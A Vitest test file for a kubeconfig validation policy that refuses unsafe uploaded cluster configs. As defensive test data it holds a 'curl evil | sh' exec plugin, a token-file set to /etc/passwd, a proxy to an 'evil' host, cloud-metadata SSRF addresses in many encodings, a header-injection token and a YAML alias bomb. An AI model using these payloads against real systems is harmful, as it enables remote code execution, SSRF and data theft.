import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { ConfigError } from '#shared/config/config.ts';
import { InputError } from '#shared/domain/errors.ts';
import {
  buildKubeconfig,
  checkKubeconfig,
  kubeconfigPolicyFromEnv,
  pemBlocks,
  readClusterConnection,
  TRUSTED_KUBECONFIG_LIMITS,
  UPLOAD_KUBECONFIG_LIMITS,
  type KubeconfigPolicy,
} from '#shared/domain/clusters/kubeconfig-policy.ts';
import { parseNetworkPolicy } from '#shared/domain/clusters/network-policy.ts';
import { distinctKeys, flowKeys, realisticKubeconfig, repeatedPemBegins } from '#test/support/hostile-kubeconfigs.ts';
import { makeTestPki } from '#test/support/pki.ts';

// Test-only PKI, made at run time and trusted by nothing.
const pki = makeTestPki();
const CA_PEM = pki.caPem;
const CLIENT_CERT_PEM = pki.clientCertPem;
const CLIENT_KEY_PEM = pki.clientKeyPem;
const OTHER_KEY_PEM = pki.otherKeyPem;
const b64 = (text: string) => Buffer.from(text).toString('base64');
const TOKEN = 'sha256~s3cr3t-token-value-0123456789';

const policy: KubeconfigPolicy = { networks: parseNetworkPolicy(''), allowInsecureTls: false };
const localPolicy: KubeconfigPolicy = { networks: parseNetworkPolicy('127.0.0.0/8,::1/128'), allowInsecureTls: false };

type Doc = Record<string, unknown> & {
  clusters: Array<{ name: string; cluster: Record<string, unknown> }>;
  users: Array<{ name: string; user: Record<string, unknown> }>;
  contexts: Array<{ name: string; context: Record<string, unknown> }>;
};

/** A well-formed kubeconfig; `change` edits the document before it is written out. */
function kubeconfig(change: (doc: Doc) => void = () => {}): string {
  const doc: Doc = {
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'prod', cluster: { server: 'https://api.prod.example.com:6443', 'certificate-authority-data': b64(CA_PEM) } }],
    users: [{ name: 'admin', user: { token: TOKEN } }],
    contexts: [{ name: 'prod-admin', context: { cluster: 'prod', user: 'admin', namespace: 'apps' } }],
    'current-context': 'prod-admin',
    preferences: {},
  };
  change(doc);
  return stringify(doc);
}

/** The InputError a kubeconfig is refused with. */
function refusal(text: string, p: KubeconfigPolicy = policy, context?: string): InputError {
  try {
    checkKubeconfig({ text, ...(context ? { context } : {}) }, p);
  } catch (err) {
    expect(err).toBeInstanceOf(InputError);
    return err as InputError;
  }
  throw new Error('the kubeconfig was accepted');
}

const fields = (err: InputError) => (err.details.errors as Array<{ field: string }>).map((e) => e.field);

describe('accepted kubeconfigs', () => {
  it('accepts inline CA data and a token, and rebuilds a single-context kubeconfig from them', () => {
    const { kubeconfig: rebuilt, summary } = checkKubeconfig({ text: kubeconfig() }, policy);
    expect(summary).toEqual({
      server: 'https://api.prod.example.com:6443',
      context: 'prod-admin',
      cluster: 'prod',
      user: 'admin',
      namespace: 'apps',
      authKind: 'token',
      insecureSkipTlsVerify: false,
    });
    expect(parse(rebuilt)).toEqual({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'prod', cluster: { server: 'https://api.prod.example.com:6443', 'certificate-authority-data': b64(CA_PEM) } }],
      users: [{ name: 'admin', user: { token: TOKEN } }],
      contexts: [{ name: 'prod-admin', context: { cluster: 'prod', user: 'admin', namespace: 'apps' } }],
      'current-context': 'prod-admin',
    });
  });

  it('accepts a client certificate and key', () => {
    const text = kubeconfig((d) => {
      d.users[0]!.user = { 'client-certificate-data': b64(CLIENT_CERT_PEM), 'client-key-data': b64(CLIENT_KEY_PEM) };
    });
    const { kubeconfig: rebuilt, summary } = checkKubeconfig({ text }, policy);
    expect(summary.authKind).toBe('client-certificate');
    expect(parse(rebuilt).users[0].user).toEqual({ 'client-certificate-data': b64(CLIENT_CERT_PEM), 'client-key-data': b64(CLIENT_KEY_PEM) });
  });

  it('accepts the same kubeconfig base64-encoded, explicitly or detected', () => {
    const encoded = b64(kubeconfig());
    expect(checkKubeconfig({ text: encoded, encoding: 'base64' }, policy).summary.context).toBe('prod-admin');
    expect(checkKubeconfig({ text: encoded }, policy).summary.context).toBe('prod-admin');
    expect(checkKubeconfig({ text: encoded.replace(/(.{76})/g, '$1\n') }, policy).summary.context).toBe('prod-admin');
  });

  it('accepts JSON, which is YAML', () => {
    const json = JSON.stringify(parse(kubeconfig()));
    expect(checkKubeconfig({ text: json }, policy).summary.server).toBe('https://api.prod.example.com:6443');
  });

  it('drops everything the chosen context does not use, including unsafe entries of other contexts', () => {
    const text = kubeconfig((d) => {
      d.clusters.push({ name: 'eks', cluster: { server: 'https://169.254.169.254', 'proxy-url': 'http://proxy:3128' } });
      d.users.push({ name: 'eks-user', user: { exec: { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'sh', args: ['-c', 'curl evil | sh'] } } });
      d.contexts.push({ name: 'eks', context: { cluster: 'eks', user: 'eks-user' } });
      d.clusters[0]!.cluster.extensions = [{ name: 'x', extension: { anything: true } }];
      d.preferences = { colors: true };
    });
    const { kubeconfig: rebuilt } = checkKubeconfig({ text }, policy);
    // Certificate data is random base64, which now and then spells `eks` or `exec` by chance: look past it.
    const withoutData = rebuilt.replaceAll(/-data: \S+/g, '-data: <data>');
    expect(withoutData).not.toMatch(/exec|curl|proxy|169\.254|extensions|preferences|eks/);
    expect(parse(rebuilt).contexts).toHaveLength(1);
  });

  it('uses the context asked for over current-context', () => {
    const text = kubeconfig((d) => {
      d.clusters.push({ name: 'staging', cluster: { server: 'https://staging.example.com' } });
      d.contexts.push({ name: 'staging', context: { cluster: 'staging', user: 'admin' } });
    });
    const { summary } = checkKubeconfig({ text, context: 'staging' }, policy);
    expect(summary).toMatchObject({ context: 'staging', cluster: 'staging', server: 'https://staging.example.com' });
  });

  it('uses the only context when there is no current-context, and a bare cluster + user pair', () => {
    expect(checkKubeconfig({ text: kubeconfig((d) => delete d['current-context']) }, policy).summary.context).toBe('prod-admin');
    const bare = kubeconfig((d) => {
      d.contexts = [];
      delete d['current-context'];
    });
    expect(checkKubeconfig({ text: bare }, policy).summary).toMatchObject({ context: 'prod', cluster: 'prod', user: 'admin' });
  });

  it('normalizes the server address and keeps a path prefix (Rancher proxies use one)', () => {
    const text = kubeconfig((d) => {
      d.clusters[0]!.cluster.server = 'HTTPS://Rancher.Example.COM:443/k8s/clusters/c-m-abc12/';
    });
    expect(checkKubeconfig({ text }, policy).summary.server).toBe('https://rancher.example.com/k8s/clusters/c-m-abc12');
  });

  it('keeps tls-server-name', () => {
    const text = kubeconfig((d) => {
      d.clusters[0]!.cluster['tls-server-name'] = 'kubernetes.default.svc';
    });
    expect(parse(checkKubeconfig({ text }, policy).kubeconfig).clusters[0].cluster['tls-server-name']).toBe('kubernetes.default.svc');
  });

  it('accepts no CA data (the public trust store applies)', () => {
    const text = kubeconfig((d) => delete d.clusters[0]!.cluster['certificate-authority-data']);
    expect(parse(checkKubeconfig({ text }, policy).kubeconfig).clusters[0].cluster).toEqual({ server: 'https://api.prod.example.com:6443' });
  });

  it('reads a stored kubeconfig back into connection details', () => {
    const { kubeconfig: rebuilt } = checkKubeconfig({ text: kubeconfig() }, policy);
    const connection = readClusterConnection(rebuilt, policy);
    expect(connection.caPem).toBe(CA_PEM);
    expect(connection.credential).toEqual({ kind: 'token', token: TOKEN });
    expect(buildKubeconfig(connection).kubeconfig).toBe(rebuilt);
  });
});

describe('refused user fields', () => {
  it.each([
    ['exec', { exec: { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'aws', args: ['eks', 'get-token'] } }, /exec credential plugin/],
    ['auth-provider', { 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh' } } }, /auth provider \(gcp\)/],
    ['tokenFile', { tokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }, /names a file on the hub/],
    ['token-file', { 'token-file': '/etc/passwd' }, /names a file on the hub/],
    ['client-certificate', { 'client-certificate': '/home/me/.kube/client.crt', 'client-key-data': b64(CLIENT_KEY_PEM) }, /names a file on the hub/],
    ['client-key', { 'client-certificate-data': b64(CLIENT_CERT_PEM), 'client-key': '/home/me/.kube/client.key' }, /names a file on the hub/],
    ['username', { username: 'admin', password: 'hunter2' }, /basic authentication/],
    ['password', { username: 'admin', password: 'hunter2' }, /basic authentication/],
    ['as', { token: TOKEN, as: 'system:admin' }, /impersonation/],
    ['as-groups', { token: TOKEN, 'as-groups': ['system:masters'] }, /impersonation/],
  ])('refuses users[0].user.%s with a sentence naming it', (key, user, sentence) => {
    const err = refusal(kubeconfig((d) => (d.users[0]!.user = user)));
    expect(fields(err)).toContain(`kubeconfig.users[0].user.${key}`);
    expect(err.message).toContain(`users[0].user.${key}`);
    expect(err.message).toMatch(sentence);
    expect(err.kind).toBe('invalid');
  });

  it('refuses exec even next to a token', () => {
    const err = refusal(kubeconfig((d) => (d.users[0]!.user = { token: TOKEN, exec: { command: 'true' } })));
    expect(fields(err)).toEqual(['kubeconfig.users[0].user.exec']);
  });

  it('names the index of the user the context uses', () => {
    const err = refusal(
      kubeconfig((d) => {
        d.users.unshift({ name: 'other', user: { token: 'x' } });
        d.users[1]!.user = { exec: { command: 'x' } };
      }),
    );
    expect(fields(err)).toEqual(['kubeconfig.users[1].user.exec']);
  });

  it('lists every refused field at once', () => {
    const err = refusal(
      kubeconfig((d) => {
        d.users[0]!.user = { exec: { command: 'x' }, tokenFile: '/t' };
        d.clusters[0]!.cluster['proxy-url'] = 'socks5://evil:1080';
      }),
    );
    expect(fields(err).sort()).toEqual(['kubeconfig.clusters[0].cluster.proxy-url', 'kubeconfig.users[0].user.exec', 'kubeconfig.users[0].user.tokenFile']);
    expect(err.message).toMatch(/3 problems/);
  });

  it('refuses a user without a credential, half a client certificate, or both kinds', () => {
    expect(refusal(kubeconfig((d) => (d.users[0]!.user = {}))).message).toMatch(/users\[0\]\.user has no credential/);
    expect(refusal(kubeconfig((d) => (d.users[0]!.user = { 'client-certificate-data': b64(CLIENT_CERT_PEM) }))).message).toMatch(
      /needs both client-certificate-data and client-key-data/,
    );
    expect(
      refusal(kubeconfig((d) => (d.users[0]!.user = { token: TOKEN, 'client-certificate-data': b64(CLIENT_CERT_PEM), 'client-key-data': b64(CLIENT_KEY_PEM) })))
        .message,
    ).toMatch(/both a token and a client certificate/);
  });

  it('refuses a key that does not belong to the certificate, and data that is not PEM', () => {
    const mismatch = refusal(
      kubeconfig((d) => (d.users[0]!.user = { 'client-certificate-data': b64(CLIENT_CERT_PEM), 'client-key-data': b64(OTHER_KEY_PEM) })),
    );
    expect(fields(mismatch)).toEqual(['kubeconfig.users[0].user.client-key-data']);
    expect(mismatch.message).toMatch(/does not belong to the certificate/);
    const notPem = refusal(kubeconfig((d) => (d.users[0]!.user = { 'client-certificate-data': b64('hello'), 'client-key-data': b64('world') })));
    expect(fields(notPem).sort()).toEqual(['kubeconfig.users[0].user.client-certificate-data', 'kubeconfig.users[0].user.client-key-data']);
  });

  it.each([['with a newline\nX-Injected: 1'], ['two words'], [''], [12345]])('refuses the token %j', (token) => {
    const err = refusal(kubeconfig((d) => (d.users[0]!.user = { token })));
    expect(err.message).toMatch(/users\[0\]\.user/);
  });
});

describe('refused cluster fields', () => {
  const withCluster = (cluster: Record<string, unknown>) => kubeconfig((d) => Object.assign(d.clusters[0]!.cluster, cluster));

  it.each([
    ['certificate-authority', { 'certificate-authority': '/etc/kubernetes/pki/ca.crt' }, /names a file on the hub/],
    ['proxy-url', { 'proxy-url': 'http://proxy.internal:3128' }, /proxy/],
    ['insecure-skip-tls-verify', { 'insecure-skip-tls-verify': true, 'certificate-authority-data': undefined }, /HUB_ALLOW_INSECURE_CLUSTER_TLS/],
    ['certificate-authority-data', { 'certificate-authority-data': 'not base64!' }, /base64-encoded PEM/],
    ['certificate-authority-data', { 'certificate-authority-data': b64('-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----') }, /base64-encoded PEM/],
    ['tls-server-name', { 'tls-server-name': 'bad name/with slash' }, /DNS name/],
  ])('refuses clusters[0].cluster.%s', (key, cluster, sentence) => {
    const err = refusal(withCluster(cluster));
    expect(fields(err)).toEqual([`kubeconfig.clusters[0].cluster.${key}`]);
    expect(err.message).toContain(`clusters[0].cluster.${key}`);
    expect(err.message).toMatch(sentence);
  });

  it('accepts insecure-skip-tls-verify only when the operator allows it, and never next to CA data', () => {
    const insecure = kubeconfig((d) => (d.clusters[0]!.cluster = { server: 'https://api.example.com', 'insecure-skip-tls-verify': true }));
    const lenient = { ...policy, allowInsecureTls: true };
    const { summary, kubeconfig: rebuilt } = checkKubeconfig({ text: insecure }, lenient);
    expect(summary.insecureSkipTlsVerify).toBe(true);
    expect(parse(rebuilt).clusters[0].cluster['insecure-skip-tls-verify']).toBe(true);
    const both = withCluster({ 'insecure-skip-tls-verify': true });
    expect(refusal(both, lenient).message).toMatch(/cannot be combined with certificate-authority-data/);
  });

  it.each([
    ['http://api.example.com', /must use https/],
    ['ftp://api.example.com', /must use https/],
    ['api.example.com:6443', /must use https|not a URL/],
    ['https://user:pass@api.example.com', /user name or password/],
    ['https://api.example.com/?x=1', /query or fragment/],
    ['not a url at all', /not a URL/],
    [42, /missing/],
  ])('refuses the server %j', (server, sentence) => {
    const err = refusal(withCluster({ server }));
    expect(fields(err)).toEqual(['kubeconfig.clusters[0].cluster.server']);
    expect(err.message).toMatch(sentence);
  });

  it('never echoes a server value it cannot parse', () => {
    const err = refusal(withCluster({ server: `https://[${TOKEN}]` }));
    expect(err.message).not.toContain(TOKEN);
  });
});

describe('refused server addresses', () => {
  const server = (host: string) => kubeconfig((d) => (d.clusters[0]!.cluster.server = `https://${host}:6443`));

  it.each([
    '169.254.169.254',
    '0xa9fea9fe',
    '2852039166',
    '0251.0376.0251.0376',
    '169.254.43518',
    '0xa9.0xfe.0xa9.0xfe',
    '[::ffff:169.254.169.254]',
    '[::ffff:a9fe:a9fe]',
    '[64:ff9b::a9fe:a9fe]',
    '[fe80::1]',
    '100.100.100.200',
    '[fd00:ec2::254]',
    '168.63.129.16',
    'metadata.google.internal',
    '169.254.169.254.',
    '%31%36%39.254.169.254',
  ])('always refuses %s, even with every network allowed', (host) => {
    const everything = { ...policy, networks: parseNetworkPolicy('0.0.0.0/0,::/0') };
    const err = refusal(server(host), everything);
    expect(fields(err)).toEqual(['kubeconfig.clusters[0].cluster.server']);
    expect(err.message).toMatch(/clusters\[0\]\.cluster\.server is refused: .*(link-local or cloud metadata|metadata host name)/);
  });

  it.each([
    '127.0.0.1',
    '127.1',
    '2130706433',
    '0x7f000001',
    '[::1]',
    '[::ffff:127.0.0.1]',
    'localhost',
    '0.0.0.0',
    '10.0.0.5',
    '172.20.1.1',
    '192.168.1.10',
    '[fd00::1]',
  ])('refuses %s unless the operator allows its network', (host) => {
    const err = refusal(server(host));
    expect(err.message).toContain('HUB_ALLOWED_CLUSTER_NETWORKS');
  });

  it('accepts loopback in any notation once loopback is allowed', () => {
    for (const host of ['127.0.0.1', '127.1', '2130706433', '[::1]', 'localhost']) {
      expect(checkKubeconfig({ text: server(host) }, localPolicy).summary.server, host).toMatch(/^https:\/\/(127\.0\.0\.1|\[::1\]|localhost):6443$/);
    }
    // ...but still not a private network.
    expect(refusal(server('10.0.0.5'), localPolicy).message).toContain('private-network address');
  });
});

describe('choosing the context', () => {
  it('refuses an unknown requested context, listing the ones there are', () => {
    const err = refusal(kubeconfig(), policy, 'nope');
    expect(fields(err)).toEqual(['context']);
    expect(err.message).toContain('"prod-admin"');
  });

  it('asks for a context when there are several and no current-context', () => {
    const text = kubeconfig((d) => {
      delete d['current-context'];
      d.contexts.push({ name: 'second', context: { cluster: 'prod', user: 'admin' } });
    });
    expect(fields(refusal(text))).toEqual(['context']);
  });

  it('refuses a current-context, cluster or user that is not defined', () => {
    expect(fields(refusal(kubeconfig((d) => (d['current-context'] = 'ghost'))))).toEqual(['kubeconfig.current-context']);
    expect(fields(refusal(kubeconfig((d) => (d.contexts[0]!.context.cluster = 'ghost'))))).toEqual(['kubeconfig.contexts[0].context.cluster']);
    expect(fields(refusal(kubeconfig((d) => (d.contexts[0]!.context.user = 'ghost'))))).toEqual(['kubeconfig.contexts[0].context.user']);
  });

  it('names the request field the text came from', () => {
    try {
      checkKubeconfig({ text: b64(kubeconfig((d) => (d.users[0]!.user = { exec: {} }))), field: 'kubeconfig_base64' }, policy);
      expect.unreachable();
    } catch (err) {
      expect(fields(err as InputError)).toEqual(['kubeconfig_base64.users[0].user.exec']);
    }
  });
});

describe('malformed documents', () => {
  it.each([
    ['not YAML', 'clusters: [\n  - name: x\n  bad: : :'],
    ['unbalanced brackets', 'just a string with: no structure: ['],
    ['several documents', `${kubeconfig()}---\n${kubeconfig()}`],
    ['duplicate keys', 'apiVersion: v1\napiVersion: v2\n'],
  ])('refuses %s without echoing it', (_what, text) => {
    const err = refusal(text);
    expect(err.message).toMatch(/^The kubeconfig is not valid YAML( \(line \d+, column \d+\))?\.$/);
    expect(fields(err)).toEqual(['kubeconfig']);
  });

  it('refuses a document that is not a mapping, and text that is not base64', () => {
    expect(refusal('hello').message).toMatch(/not a YAML mapping/);
    expect(() => checkKubeconfig({ text: 'a===b', encoding: 'base64' }, policy)).toThrow(/not valid base64/);
  });

  it('refuses a YAML alias bomb instead of expanding it', () => {
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 0; i < 8; i++)
      bomb.push(
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(10)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
      );
    expect(refusal(bomb.join('\n')).message).toMatch(/not valid YAML/);
  });

  it('never puts the token in an error, even when the YAML breaks next to it', () => {
    const text = `users:\n- name: u\n  user:\n    token: ${TOKEN}\n    : broken\n`;
    const err = refusal(text);
    expect(JSON.stringify({ message: err.message, extra: err.details })).not.toContain(TOKEN);
  });

  it('refuses lists of the wrong shape', () => {
    expect(fields(refusal('clusters: 3\nusers: []\ncontexts: []\n'))).toEqual(['kubeconfig.clusters']);
    expect(fields(refusal('clusters: [{name: a}]\nusers: []\ncontexts: []\n'))).toEqual(['kubeconfig.clusters[0]']);
  });
});

describe('size limits, before the parser sees the text', () => {
  const { bytes, keys } = UPLOAD_KUBECONFIG_LIMITS;

  it('accepts a realistic kubeconfig just under the 64 KiB cap: dozens of contexts with certificates', () => {
    const text = realisticKubeconfig(bytes - 100, pki);
    expect(text.length).toBeGreaterThan(60 * 1024);
    expect(checkKubeconfig({ text }, policy).summary.authKind).toBe('client-certificate');
    expect(checkKubeconfig({ text: b64(text) }, policy).summary.authKind).toBe('client-certificate');
  });

  it('refuses a kubeconfig over the cap, as YAML or base64, with a sentence naming the limit', () => {
    const text = kubeconfig((d) => (d.preferences = { padding: 'x'.repeat(bytes) }));
    for (const err of [refusal(text), refusal(b64(text))]) {
      expect(err.message).toBe(
        'The kubeconfig is larger than 65536 bytes (64 KiB), the most the hub accepts: keep only the context to register (kubectl config view --minify --flatten --context <name>).',
      );
      expect(fields(err)).toEqual(['kubeconfig']);
    }
    // 512 KiB of distinct keys (67 s of CPU for the parser with uniqueKeys) is refused on its size alone.
    expect(refusal(distinctKeys(512 * 1024, 100_000)).message).toMatch(/^The kubeconfig is larger than 65536 bytes/);
  });

  it('refuses more keys than a real kubeconfig has, counted without parsing', () => {
    expect(refusal(distinctKeys(60 * 1024, 10_000)).message).toBe(
      'The kubeconfig has more than 5000 keys and list entries, far more than a real one: keep only the context to register.',
    );
    expect(refusal(flowKeys(60 * 1024, 10_000)).message).toMatch(/more than 5000 keys/);
  });

  it('parses the worst inputs under both limits and refuses them for what they are', () => {
    // A mapping of nearly 5,000 distinct keys filling 64 KiB, block and flow style: duplicates are
    // checked in one pass (the parser's own check compares every key with every other).
    for (const text of [distinctKeys(bytes - 16, keys - 1), flowKeys(bytes - 16, keys - 1)]) {
      expect(text.length).toBeGreaterThan(60 * 1024);
      expect(refusal(text).message).toMatch(/no current-context and its contexts are none/);
    }
    // 48 KiB of BEGIN CERTIFICATE lines as CA data: found to hold no certificate in one scan.
    const pem = repeatedPemBegins(bytes - 16);
    expect(pem.length).toBeGreaterThan(60 * 1024);
    expect(refusal(pem).message).toMatch(/certificate-authority-data must be base64-encoded PEM certificates/);
  });

  it('still refuses duplicate keys, including keys that become the same property', () => {
    expect(refusal('apiVersion: v1\nkind: Config\napiVersion: v2\n').message).toBe('The kubeconfig is not valid YAML (line 3, column 1).');
    expect(refusal('{"kind": "Config", "kind": "Config"}').message).toMatch(/^The kubeconfig is not valid YAML/);
    expect(refusal('1: a\n"1": b\n').message).toBe('The kubeconfig is not valid YAML (line 2, column 1).');
    expect(refusal('? [a, b]\n: c\n').message).toMatch(/^The kubeconfig is not valid YAML/);
  });

  it("gives the local run's own kubeconfig and the hub's stored ones a larger allowance", () => {
    const text = realisticKubeconfig(200 * 1024, pki);
    expect(refusal(text).message).toMatch(/larger than 65536 bytes/);
    expect(checkKubeconfig({ text, limits: TRUSTED_KUBECONFIG_LIMITS }, policy).summary.cluster).toMatch(/^prod-\d+$/);
  });

  it('finds PEM blocks in one pass, and none after a BEGIN line with no END', () => {
    const bundle = `${CA_PEM}\n${CLIENT_CERT_PEM}`;
    expect(pemBlocks(bundle, (l) => l === 'CERTIFICATE')).toHaveLength(2);
    expect(pemBlocks(`junk\n${CLIENT_KEY_PEM}${CA_PEM}`, (l) => l === 'CERTIFICATE')).toEqual([CA_PEM.trim()]);
    expect(pemBlocks('-----BEGIN CERTIFICATE-----\n'.repeat(10_000), () => true)).toEqual([]);
    expect(pemBlocks('-----BEGIN -----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----', (l) => l === 'CERTIFICATE')).toHaveLength(1);
  });
});

describe('the operator settings', () => {
  it('reads HUB_ALLOWED_CLUSTER_NETWORKS and HUB_ALLOW_INSECURE_CLUSTER_TLS', () => {
    const p = kubeconfigPolicyFromEnv({ HUB_ALLOWED_CLUSTER_NETWORKS: '127.0.0.0/8', HUB_ALLOW_INSECURE_CLUSTER_TLS: 'true' });
    expect(p.allowInsecureTls).toBe(true);
    expect(p.networks.checkAddress('127.0.0.1').allowed).toBe(true);
    expect(kubeconfigPolicyFromEnv({}).allowInsecureTls).toBe(false);
    expect(() => kubeconfigPolicyFromEnv({ HUB_ALLOW_INSECURE_CLUSTER_TLS: 'yes please' })).toThrow(ConfigError);
  });
});
